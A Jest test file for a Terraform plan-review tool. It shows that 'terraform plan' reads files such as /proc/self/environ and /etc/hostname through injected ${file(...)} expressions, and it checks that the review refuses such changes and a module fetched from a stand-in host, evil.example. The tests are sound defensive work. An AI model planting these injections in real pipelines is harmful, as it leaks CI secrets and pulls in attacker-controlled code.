import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import fc from 'fast-check';
import { findTerraform } from 'plan-review/terraform/find-terraform';
import { capture } from '../../cli/processes/run';
import { problemIn } from '../../cli/review/untrusted/expressions';
import { synthesize } from '../../cli/synth/synthesize';
import { runNpm, type Finished } from '../helpers/npm-command';
import { paths, useRunFolder } from './helpers/run-folder';

/** Milliseconds for a few syntheses on a busy machine. */
jest.setTimeout(300_000);

const fileOfRun = useRunFolder();

describe('Terraform, and so the reason for the check of what a pull request synthesized,', () => {
  /** What a plan of a folder with these files shows. */
  async function plan(name: string, files: Readonly<Record<string, string>>): Promise<string> {
    const cwd = fileOfRun(name);
    await mkdir(cwd, { recursive: true });
    for (const [file, text] of Object.entries(files)) await writeFile(join(cwd, file), text);
    const { binary } = await findTerraform(process.env, paths.root);
    const env = { ...process.env, SECRET_OF_THE_JOB: 'the-secret' };
    return (await capture(binary, ['plan', '-no-color', '-input=false'], { cwd, env })).output;
  }
  const output = (value: string): string => JSON.stringify({ output: { x: { value } } });

  it('reads files while it plans, its own environment included', async () => {
    const shown = await plan('environ', { 'cdk.tf.json': output('${file("/proc/self/environ")}') });
    expect(shown).toContain('SECRET_OF_THE_JOB=the-secret');
    expect(await plan('hostname', { 'cdk.tf.json': output('${file("/etc/hostname")}') })).toContain(
      readFileSync('/etc/hostname', 'utf8').trim(),
    );
  });

  it('reads no file for a text that the check takes, however its signs are put together', async () => {
    const secret = fileOfRun('secret');
    await writeFile(secret, 'content-of-the-file');
    const call = `file("${secret}")`;
    const signs = [
      '$',
      '%',
      '{',
      '}',
      '"',
      ' ',
      '~',
      '$${',
      '%%{',
      '${',
      '%{',
      '\\',
      call,
      `\${${call}}`,
      '${sha256("a")}',
      'if',
    ];
    const texts = fc.sample(fc.array(fc.constantFrom(...signs), { minLength: 1, maxLength: 7 }), {
      numRuns: 60_000,
      seed: 1,
    });
    const taken = texts
      .map((parts) => parts.join(''))
      .filter((text) => text.includes(call) && problemIn(text, new Set()) === undefined);
    expect(taken.length).toBeGreaterThan(500);
    const outputs = taken.slice(0, 3_000).map((value, index) => [`x${index}`, { value }]);
    const shown = await plan('signs', {
      'cdk.tf.json': JSON.stringify({ output: Object.fromEntries(outputs) as unknown }),
    });
    expect(shown).toContain('+ x0 ');
    expect(shown).not.toContain('content-of-the-file');
  });

  it('takes both of two properties that have one name', async () => {
    const twice = '{"output": {"x": {"value": "one"}}, "output": {"y": {"value": "two"}}}';
    const shown = await plan('twice', { 'cdk.tf.json': twice });
    expect(shown).toContain('one');
    expect(shown).toContain('two');
  });

  it('reads what lies beside the JSON of a stack', async () => {
    const shown = await plan('beside', {
      'cdk.tf.json': output('one'),
      'override.tf.json': output('from the override'),
      'more.tf': 'output "y" { value = "from the other file" }',
    });
    expect(shown).toContain('from the override');
    expect(shown).toContain('from the other file');
  });

  it('evaluates the names of properties', async () => {
    const named = JSON.stringify({ output: { x: { value: { '${file("/etc/hostname")}': 'a' } } } });
    expect(await plan('names', { 'cdk.tf.json': named })).toContain(readFileSync('/etc/hostname', 'utf8').trim());
  });
});

describe('npm run review -- --synthesized', () => {
  const made = (): string => fileOfRun('made');

  beforeAll(async () => {
    await synthesize({ paths, env: process.env, output: made() });
  });

  /** The review of what was synthesized, after a change of one of its stacks. */
  async function review(
    name: string,
    change?: (json: Record<string, unknown>) => void,
    ...options: string[]
  ): Promise<Finished & { readonly comment: string }> {
    const folder = fileOfRun(name);
    cpSync(made(), folder, { recursive: true });
    const file = join(folder, 'stacks/dev-hello/cdk.tf.json');
    if (change !== undefined) {
      const json = JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>;
      change(json);
      writeFileSync(file, JSON.stringify(json, undefined, 2));
    }
    const out = fileOfRun(`${name}-review`);
    const args = ['run', '--silent', 'review', '--', '--synthesized', folder, '--out', out, '--no-checkov', ...options];
    const env = {
      TF_VAR_github_token: 'ghp_token',
      TF_VAR_webhook_secret: 'a-secret',
      AWS_ENDPOINT_URL: 'http://127.0.0.1:9',
    };
    const finished = await runNpm(args, env);
    return { ...finished, comment: readFileSync(join(out, 'comment.md'), 'utf8') };
  }

  it('refuses a change that reads a file of the job, names the place, and shows nothing of the file', async () => {
    const { exitCode, stdout, comment } = await review('reads', (json) => {
      json['output'] = { x: { value: '${file("/etc/hostname")}' } };
    });
    expect(exitCode).toBe(3);
    for (const text of [stdout, comment]) {
      expect(text).toContain('It could not be reviewed');
      expect(text.replace(/\s+/g, ' ')).toContain('output.x.value');
    }
    expect(comment).not.toContain(readFileSync('/etc/hostname', 'utf8').trim());
  });

  it('cannot be made to pass by accepting danger', async () => {
    const add = (json: Record<string, unknown>): void => {
      json['module'] = { x: { source: 'git::https://evil.example/x' } };
    };
    expect((await review('accepted', add, '--accept', 'dangerous')).exitCode).toBe(1);
  });

  it('finds no change where there is none, without the code of the change', async () => {
    const { exitCode, stdout } = await review('same');
    expect(stdout).toContain('o changes');
    expect(exitCode).toBe(0);
  });
});
